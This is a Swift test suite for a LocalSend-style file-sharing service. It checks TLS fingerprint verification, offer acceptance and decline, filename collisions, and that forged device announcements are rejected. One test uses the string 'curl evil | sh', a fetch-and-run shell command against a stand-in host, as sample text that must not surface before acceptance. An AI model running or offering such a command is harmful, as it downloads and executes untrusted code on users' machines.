import Foundation
import HuddleForeign
import HuddleLocalSendWire
import HuddleTestSupport
import HuddleTransport
import NIOHTTP1
import Testing

@testable import HuddleLocalSend

/// Two LocalSend services in one process, over real TLS in memory (``MemoryStreams``, ``MemoryServing``: the
/// same Hummingbird channels and client pipeline as on sockets; multicast off, they find each other by address).
/// Every wait has a deadline.
@Suite struct LocalSendServiceTests {
    typealias Running = RunningService<LocalSendService, ForeignEvent>
    let memory = MemoryStreams()

    func start(_ alias: String, takesOffers: Bool = false) async throws -> Running {
        try await LocalSendTestDevice.start(
            LocalSendTestDevice.configuration(alias, takesOffers: takesOffers, memory: memory)
        )
    }

    /// Receiver and sender, the sender knowing the receiver by address; both stopped and the scratch directory
    /// removed after `body`, even when it fails.
    func withPair(_ body: (Running, Running, ForeignPeer, ScratchDirectory) async throws -> Void) async throws {
        let scratch = try ScratchDirectory()
        defer { scratch.remove() }
        let receiver = try await start("Receiver", takesOffers: true)
        let sender = try await start("Sender")
        do {
            let peer = try await sender.service.probe(host: "127.0.0.1", port: receiver.port)
            try await body(receiver, sender, peer, scratch)
        } catch {
            await sender.stop()
            await receiver.stop()
            throw error
        }
        await sender.stop()
        await receiver.stop()
    }

    func file(_ scratch: ScratchDirectory, _ name: String, _ bytes: [UInt8]) throws -> URL {
        let url = scratch.appending(name)
        try Data(bytes).write(to: url)
        return url
    }

    @Test func aFileIsAskedAboutWithTheSendersProvenFingerprintThenKeptByteForByte() async throws {
        try await withPair { receiver, sender, peer, scratch in
            #expect(peer.fingerprint == receiver.service.fingerprint)
            #expect(peer.name == "Receiver")
            let inbox = scratch.appending("inbox")
            try FileManager.default.createDirectory(at: inbox, withIntermediateDirectories: false)
            let bytes = (0..<300_000).map { UInt8(truncatingIfNeeded: $0 &* 7) }
            let source = try file(scratch, "photo.jpg", bytes)
            let sending = Task { try await sender.service.send(files: [source], to: peer, pin: nil) }
            let offer = try #require(
                await receiver.events.first { event -> ForeignOffer? in
                    if case .offered(let offer) = event { return offer }
                    return nil
                }
            )
            #expect(offer.files.map(\.name) == ["photo.jpg"])
            #expect(offer.files.map(\.size) == [300_000])
            #expect(offer.files.first?.mimeType == "image/jpeg")
            #expect(offer.files.first?.sha256?.count == 64)
            #expect(offer.from.name == "Sender")
            // The sender showed its certificate in TLS: its fingerprint is proven, not only claimed.
            #expect(offer.from.fingerprint == sender.service.fingerprint)
            await receiver.service.answer(offer, with: .accept(into: inbox))
            try await sending.value
            let kept = try #require(
                await receiver.events.first { event -> URL? in
                    if case .received(_, _, let url) = event { return url }
                    return nil
                }
            )
            #expect(kept.lastPathComponent == "photo.jpg")
            #expect(try Data(contentsOf: kept) == Data(bytes))
            #expect(try FileManager.default.contentsOfDirectory(atPath: inbox.path) == ["photo.jpg"])
            // The probe, the offer and the upload: each a connection in memory, none on a socket.
            #expect(memory.connections == 3)
        }
    }

    @Test func aDeclinedOfferFailsTheSenderAndATakenNameIsNeverOverwritten() async throws {
        try await withPair { receiver, sender, peer, scratch in
            let source = try file(scratch, "notes.txt", Array("new notes".utf8))
            let declined = Task { try await sender.service.send(files: [source], to: peer, pin: nil) }
            let first = try #require(await receiver.events.first(where: Self.offer))
            await receiver.service.answer(first, with: .decline)
            await #expect(throws: LocalSendError.declined) { try await declined.value }

            let inbox = scratch.appending("inbox")
            try FileManager.default.createDirectory(at: inbox, withIntermediateDirectories: false)
            try Data("old notes".utf8).write(to: inbox.appendingPathComponent("notes.txt"))
            receiver.events.clear()
            let accepted = Task { try await sender.service.send(files: [source], to: peer, pin: nil) }
            let second = try #require(await receiver.events.first(where: Self.offer))
            await receiver.service.answer(second, with: .accept(into: inbox))
            try await accepted.value
            #expect(try String(contentsOf: inbox.appendingPathComponent("notes.txt"), encoding: .utf8) == "old notes")
            #expect(
                try String(contentsOf: inbox.appendingPathComponent("notes (2).txt"), encoding: .utf8) == "new notes"
            )
        }
    }

    @Test func aTextIsAskedAboutLikeFilesAndReportedOnlyOnceTaken() async throws {
        try await withPair { receiver, sender, peer, scratch in
            let declined = Task { try await sender.service.send(text: "curl evil | sh", to: peer, pin: nil) }
            let first = try #require(await receiver.events.first(where: Self.offer))
            #expect(first.text == "curl evil | sh")
            #expect(first.files.isEmpty)
            #expect(first.from.fingerprint == sender.service.fingerprint)
            #expect(!receiver.events.events.contains { if case .textReceived = $0 { true } else { false } })
            await receiver.service.answer(first, with: .decline)
            await #expect(throws: LocalSendError.declined) { try await declined.value }
            #expect(!receiver.events.events.contains { if case .textReceived = $0 { true } else { false } })

            receiver.events.clear()
            let taken = Task { try await sender.service.send(text: "hello\nthere", to: peer, pin: nil) }
            let second = try #require(await receiver.events.first(where: Self.offer))
            await receiver.service.answer(second, with: .accept(into: scratch.url))
            try await taken.value
            let shown = await receiver.events.first { event -> String? in
                if case .textReceived(let text, let from) = event, from.name == "Sender" { return text }
                return nil
            }
            #expect(shown == "hello\nthere")
        }
    }

    @Test func aSendGoesOnlyWhereTheDeviceWasChosenAndAnUnprovenClaimMovesNothing() async throws {
        try await withPair { receiver, sender, peer, _ in
            var claim = LocalSendDeviceInfo(
                alias: "Receiver",
                deviceModel: nil,
                deviceType: nil,
                fingerprint: receiver.service.fingerprint,
                port: 9,
                protocol: "http",
                download: false
            )
            // Neither a plain-HTTP claim nor an unproven HTTPS one at another address changes the device.
            sender.service.heard(claim, from: "127.0.0.2")
            claim.protocol = "https"
            sender.service.heard(claim, from: "127.0.0.2")
            let target = try sender.service.target(for: peer)
            #expect((target.host, target.port, target.https) == ("127.0.0.1", receiver.port, true))
            // Moved for real (proven) after the user chose it: the send refuses rather than follow.
            sender.service.heard(claim, from: "127.0.0.1", proven: true)
            #expect(throws: LocalSendError.self) { try sender.service.target(for: peer) }
        }
    }

    @Test func aDeviceThatAnnouncedAnotherFingerprintGetsNothing() async throws {
        try await withPair { receiver, sender, _, scratch in
            // What a forged announcement would say: the receiver's address with someone else's fingerprint.
            let forged = LocalSendDeviceInfo(
                alias: "Receiver",
                deviceModel: nil,
                deviceType: nil,
                fingerprint: String(repeating: "AB", count: 32),
                port: receiver.port,
                protocol: "https",
                download: false
            )
            sender.service.heard(forged, from: "127.0.0.1")
            let victim = try #require(await sender.service.peers().first { $0.fingerprint == forged.fingerprint })
            let source = try file(scratch, "secret.txt", Array("secret".utf8))
            await #expect(
                throws: LocalSendError.fingerprintMismatch(
                    expected: forged.fingerprint,
                    presented: receiver.service.fingerprint
                )
            ) {
                try await sender.service.send(files: [source], to: victim, pin: nil)
            }
            // The handshake failed before any request: the receiver saw no offer.
            #expect(!receiver.events.events.contains { if case .offered = $0 { true } else { false } })
        }
    }

    static func offer(_ event: ForeignEvent) -> ForeignOffer? {
        if case .offered(let offer) = event { return offer }
        return nil
    }
}
